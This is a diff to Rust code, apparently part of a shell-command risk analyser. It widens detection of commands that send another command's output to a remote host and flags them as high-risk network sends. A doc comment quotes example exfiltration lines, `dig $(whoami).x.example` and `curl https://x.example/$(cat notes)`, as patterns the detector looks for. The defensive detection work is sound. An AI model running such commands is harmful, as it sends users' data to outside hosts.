@@ -193,7 +193,7 @@ impl Shell<'_, '_> {
     }
 
     /// The values of a word that contains the variable of a loop; none if it is no such word, or has too many.
-    fn looped(&self, word: &Word) -> Vec<Word> {
+    pub(super) fn looped(&self, word: &Word) -> Vec<Word> {
         let is_end = |c: char| !(c.is_ascii_alphanumeric() || c == '_');
         let Some((before, rest)) = word.text.split_once('$') else { return Vec::new() };
         let (name, behind) = rest.split_at(rest.find(is_end).unwrap_or(rest.len()));
@@ -227,10 +227,14 @@ impl Shell<'_, '_> {
         self.asks_with_output(word);
     }
 
-    /// `dig $(whoami).x.example` sends another command's output as part of a name.
+    /// `dig $(whoami).x.example` and `curl https://x.example/$(cat notes)` send another command's output.
     fn asks_with_output(&mut self, word: &Word) {
-        let host = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
-        if word.dynamic && host.split('/').next().is_some_and(|host| host.contains("$.")) {
+        let text = word.text.as_str();
+        let host = text.split_once("://").map_or(text, |(_, rest)| rest);
+        let host = host.split(['/', '?', '$']).next().unwrap_or(host);
+        let is_local = http::is_loopback(host.trim_end_matches(':')) && !host.is_empty();
+        let holds_output = || super::take::holds_output(text) || super::take::names_one_of(text, &self.printed);
+        if word.dynamic && !is_local && holds_output() {
             self.sends = true;
             let act = Act::new("send", "output", Resource::Network, Operation::Send, 0.7).at_risk(RiskLevel::High);
             self.reading.push(act.marked(Sign::Outside).told_by(&word.text));
@@ -341,8 +345,11 @@ impl Shell<'_, '_> {
                 paths.push(piece.text);
             }
         }
+        // Of a whole program only the host is kept, not its text once for each host.
+        let is_text = word.text.contains(char::is_whitespace);
         for host in target::hosts_in(&word.text) {
-            self.operand(Operand::new(Kind::Host, Role::Named, host, &word.text));
+            let said = if is_text { host.clone() } else { word.text.clone() };
+            self.operand(Operand::new(Kind::Host, Role::Named, host, &said));
         }
         paths
     }
